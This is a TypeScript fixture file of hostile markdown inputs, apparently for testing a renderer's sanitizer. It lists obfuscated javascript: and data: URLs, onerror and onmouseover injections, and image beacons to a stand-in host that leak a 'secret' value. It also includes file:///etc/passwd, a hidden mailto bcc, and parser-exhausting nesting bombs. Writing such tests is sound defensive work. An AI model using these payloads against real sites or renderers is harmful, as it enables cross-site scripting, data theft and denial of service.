/** Markdown with addresses that run or fetch, and such that a parser could choke on. */

const RUN = 'top.__ran.push(2000)'
const SPY = 'https://hostile.example'

/** Addresses that nothing may link to. */
const BAD_ADDRESSES = {
  script: `javascript:${RUN}`,
  'script in capitals': `JaVaScRiPt:${RUN}`,
  'script in entities': `&#106;avascript&colon;${RUN}`,
  'script after a tab': `&Tab;javascript:${RUN}`,
  'script with a tab in it': `java&Tab;script:${RUN}`,
  'script with a line in it': `java&NewLine;script:${RUN}`,
  'script with a backslash': `javascript\\:${RUN}`,
  'script after a control sign': `\u0001javascript:${RUN}`,
  'script in percent signs': `javascript%3A${RUN}`,
  'script after an address': `javascript://hostile.example/%0A${RUN}`,
  'basic script': `vbscript:${RUN}`,
  page: `data:text/html,<script>${RUN}</script>`,
  drawing: `data:image/svg+xml,<svg onload=${RUN}>`,
  blob: 'blob:https://hostile.example/1',
  file: 'file:///etc/passwd',
  'our own page': '/#settings',
  'our own server': '/graphql?query={__typename}',
  'a host without a scheme': '//hostile.example/host',
  anchor: '#settings',
  'a view of the source': `view-source:${SPY}`,
}

const LINKS = Object.entries(BAD_ADDRESSES).map(([name, url]) => ({
  name: `link to ${name}`,
  text: `[open](<${url}>) [again](${url})`,
}))

const IMAGES = {
  'image from elsewhere': `![x](${SPY}/image)`,
  'image by reference': `![x][spy]\n\n[spy]: ${SPY}/reference`,
  'image by its own name': `![spy]\n\n[spy]: ${SPY}/name`,
  'image in a link': `[![x](${SPY}/inner)](${SPY}/outer)`,
  'image with the text of a cell': `![x](${SPY}/?text=secret "title")`,
  'image without a scheme': '![x](//hostile.example/noscheme)',
  'image of a script': `![x](javascript:${RUN})`,
  'image with HTML for a text': `![<img src=x: onerror=${RUN}>](${SPY}/alt)`,
  'HTML image': `Look: <img src="${SPY}/html" onerror="${RUN}">`,
}

const FORMS = {
  'link by reference': `[open][bad]\n\n[bad]: javascript:${RUN}`,
  'link defined twice': `[open][twice]\n\n[twice]: ${SPY}/first\n[twice]: javascript:${RUN}`,
  'address in angles': `<javascript:${RUN}> <data:text/html,x> <${SPY}/auto>`,
  'title that ends an attribute': `[open](${SPY} "\\" onmouseover=${RUN} x=\\"")`,
  'address that ends an attribute': `[open](${SPY}/"onmouseover="${RUN}")`,
  'HTML block': `<div onclick=${RUN}>\n\n**bold**\n\n</div>`,
  'HTML and a link': `<a href="javascript:${RUN}">[x](${SPY})</a>`,
  'open comment': `<!-- [x](javascript:${RUN})`,
  'open fence': `\`\`\`html\n<script>${RUN}</script>`,
  'fence with a hostile language': `~~~"><script>${RUN}</script>\nx\n~~~`,
  'code with HTML': `\`<script>${RUN}</script>\``,
  'heading with HTML': `# <script>${RUN}</script>\n\n##### five`,
  'lines that underline': `<script>${RUN}</script>\n===`,
  table: `| <img src=x: onerror=${RUN}> | [x](javascript:${RUN}) |\n| --- | --- |\n| a | b |`,
  footnote: `Text[^1]\n\n[^1]: <script>${RUN}</script>`,
  'mail with another receiver': '[mail](mailto:a@b.example?bcc=spy@hostile.example)',
  'names of other things': '[__proto__]: https://hostile.example/p\n\n[x][__proto__] [y][constructor]',
  emphasis: '**not *closed and _mixed** up_',
  backslashes: '\\<script\\>\\[x\\](y) \\\\',
  'numbered list that begins late': '999999999. item\n1000000000. none',
}

const named = (texts: Record<string, string>) => Object.entries(texts).map(([name, text]) => ({ name, text }))

export const MARKDOWN = [...LINKS, ...named(IMAGES), ...named(FORMS)]

/** Short texts that ask a parser for much: depth, or looking back over and over. */
const BOMBS: Record<string, string> = {
  'quotes in quotes': `${'>'.repeat(20_000)} deep`,
  'lists in lists': `${'- '.repeat(20_000)}deep`,
  'numbers in numbers': `${'1. '.repeat(10_000)}deep`,
  'quotes line by line': Array.from({ length: 280 }, (_, depth) => `${'>'.repeat(depth)} a`).join('\n'),
  'lists line by line': Array.from({ length: 200 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  'open brackets': '['.repeat(45_000),
  'open pictures': '!['.repeat(22_000),
  'brackets in brackets': `${'['.repeat(1_000)}a${'](b)'.repeat(11_000)}`,
  'open links': '[a]('.repeat(12_000),
  stars: '*'.repeat(45_000),
  'stars around a word': `${'*'.repeat(2_400)}a${'*'.repeat(2_400)}`,
  'stars around words': `${'**a *b '.repeat(340)}${'c* d** '.repeat(340)}`,
  'stars and lines': '*a_ '.repeat(11_000),
  'stars that open': '*a **a '.repeat(6_500),
  backticks: Array.from({ length: 290 }, (_, length) => `${'`'.repeat(length + 1)} a`).join(' '),
  angles: '<'.repeat(45_000),
  'open tags': '<a b="'.repeat(8_000),
  'open comments': '<!--a '.repeat(8_000),
  entities: '&lt;'.repeat(12_000),
  definitions: Array.from({ length: 2_200 }, (_, index) => `[${index}]: /${index}`).join('\n'),
  'uses of one definition': `[a]: https://hostile.example/${'x'.repeat(800)}\n\n${'[a]'.repeat(15_000)}`,
  'underlined lines': 'a\n='.repeat(16_000),
}

/** Whole, and as much of each as a text has that is drawn as markdown. */
export const MARKDOWN_BOMBS = [
  ...named(BOMBS),
  ...named(BOMBS).map(({ name, text }) => ({
    name: `${name}, less of it`,
    text: `${text.slice(0, 4_990)} end`,
  })),
]
